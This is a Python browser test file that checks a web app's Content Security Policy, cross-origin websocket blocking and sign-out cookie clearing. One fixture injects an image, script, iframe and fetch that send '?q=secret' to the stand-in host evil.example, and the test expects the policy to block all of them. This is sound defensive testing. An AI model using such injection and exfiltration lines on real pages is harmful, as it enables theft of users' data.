"""The policy of the pages in a real browser: it breaks nothing of theirs, and lets nothing else in."""

from tests.browser.visitor import Visitor
from tests.corpus.serving import waited

FOREIGN = """() => new Promise(done => {
    const seen = [];
    document.addEventListener('securitypolicyviolation', e => {
        seen.push(e.effectiveDirective);
        if (seen.length >= 4) done(seen.sort());
    });
    const add = (kind, given) => document.body.appendChild(Object.assign(document.createElement(kind), given));
    add('img', {src: 'https://evil.example/pixel.png?q=secret'});
    add('script', {textContent: 'window.pwned = 1'});
    add('iframe', {src: 'https://evil.example/'});
    fetch('https://evil.example/?q=secret').catch(() => 0);
})"""
CONNECT = """address => new Promise(done => {
    const socket = new WebSocket(address.replace('http', 'ws') + '/_stcore/stream', ['streamlit']);
    socket.onopen = () => done('open');
    socket.onclose = () => done('closed');
})"""


def test_t042_the_pages_work_under_their_policy_and_ask_nobody_else(admin: Visitor) -> None:
    admin.open("/")
    admin.page.wait_for_load_state("networkidle")
    assert [text for text in admin.wrong if "Content Security Policy" in text] == []
    assert admin.foreign == []


def test_t042_what_would_be_brought_into_a_page_runs_nothing_and_tells_nobody(admin: Visitor) -> None:
    assert admin.page.evaluate(FOREIGN) == ["connect-src", "frame-src", "img-src", "script-src-elem"]
    assert admin.page.evaluate("() => window.pwned") is None


def test_t067_a_page_of_another_origin_connects_to_nothing(admin: Visitor) -> None:
    assert admin.page.evaluate(CONNECT, admin.address) == "open"
    admin.page.goto("data:text/html,<p>somebody else's")
    assert admin.page.evaluate(CONNECT, admin.address) == "closed"


def test_t067_the_button_signs_out(admin: Visitor) -> None:
    admin.open("/sign-out")
    admin.page.click("button")
    admin.open("/")
    assert waited(lambda: "/sign-in" in admin.page.url)
    assert "kb_session" not in {cookie["name"] for cookie in admin.page.context.cookies(admin.address)}
